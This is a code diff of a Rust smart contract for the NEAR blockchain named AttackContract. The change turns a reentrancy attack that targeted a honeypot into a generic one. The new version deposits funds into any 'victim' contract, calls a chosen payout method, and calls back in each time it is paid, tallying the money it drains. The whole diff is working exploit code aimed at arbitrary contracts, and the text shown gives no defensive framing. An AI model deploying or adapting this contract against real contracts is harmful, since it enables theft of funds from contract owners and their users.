@@ -1,54 +1,59 @@
-//! The AttackContract of the literature: it puts money into a honeypot, gets it, and while the honeypot pays it, gets it
-//! again, as often as it was told.
+//! The AttackContract of the literature: it puts money into a contract, has it paid out, and while it is being paid, calls
+//! again.
 
-use near_sdk::{env, ext_contract, near, AccountId, Gas, NearToken, Promise, PromiseOrValue};
+use near_sdk::{
+    env, ext_contract, near, AccountId, Gas, GasWeight, NearToken, Promise, PromiseOrValue,
+};
 
 const PUT_GAS: Gas = Gas::from_tgas(5);
-/// The least gas for one `get`, and for what it calls; what is left over comes on top.
-const GET_GAS: Gas = Gas::from_tgas(15);
+/// The least gas for one call, and for what it calls; what is left over comes on top.
+const CALL_GAS: Gas = Gas::from_tgas(15);
 
-/// What it calls at the honeypot.
-#[ext_contract(ext_honeypot)]
+/// Where it puts money.
+#[ext_contract(ext_victim)]
 #[allow(dead_code)]
-trait HoneyPot {
+trait Victim {
     fn put(&mut self);
-    fn get(&mut self, tell: Option<bool>);
 }
 
-/// How often it will call again, and what it got. Usable right after the deploy.
+/// What it will call, and what it was paid. Usable right after the deploy.
 #[near(contract_state)]
 #[derive(Default)]
 pub struct AttackContract {
-    again: u32,
+    method: String,
+    calls: Vec<String>,
     collected: NearToken,
 }
 
 #[near]
 impl AttackContract {
-    /// Puts the attached deposit into a honeypot, in this contract's name.
+    /// Puts the attached deposit into a contract by its method `put`, in this contract's name.
     #[payable]
-    pub fn put(&mut self, honeypot: AccountId) -> Promise {
-        ext_honeypot::ext(honeypot)
+    pub fn put(&mut self, victim: AccountId) -> Promise {
+        ext_victim::ext(victim)
             .with_static_gas(PUT_GAS)
             .with_attached_deposit(env::attached_deposit())
             .put()
     }
 
-    /// Gets the money out of the honeypot, and `again` times more while it is being paid.
-    pub fn attack(&mut self, honeypot: AccountId, again: u32) -> Promise {
-        self.again = again;
-        get(honeypot)
+    /// Calls a method that pays, as often as there are arguments (each as JSON): the first time now, and then each time
+    /// while it is being paid.
+    pub fn attack(
+        &mut self,
+        victim: AccountId,
+        method: String,
+        args: Vec<String>,
+    ) -> PromiseOrValue<()> {
+        self.method = method;
+        self.calls = args;
+        self.next(victim)
     }
 
     /// Takes the money, and calls back in.
     #[payable]
     pub fn on_money(&mut self) -> PromiseOrValue<()> {
         self.collected = self.collected.saturating_add(env::attached_deposit());
-        if self.again == 0 {
-            return PromiseOrValue::Value(());
-        }
-        self.again -= 1;
-        get(env::predecessor_account_id()).into()
+        self.next(env::predecessor_account_id())
     }
 
     /// What it was paid so far.
@@ -57,8 +62,15 @@ impl AttackContract {
     }
 }
 
-fn get(honeypot: AccountId) -> Promise {
-    ext_honeypot::ext(honeypot)
-        .with_static_gas(GET_GAS)
-        .get(Some(true))
+impl AttackContract {
+    fn next(&mut self, victim: AccountId) -> PromiseOrValue<()> {
+        if self.calls.is_empty() {
+            return PromiseOrValue::Value(());
+        }
+        let args = self.calls.remove(0).into_bytes();
+        let method = self.method.clone();
+        Promise::new(victim)
+            .function_call_weight(method, args, NearToken::ZERO, CALL_GAS, GasWeight(1))
+            .into()
+    }
 }
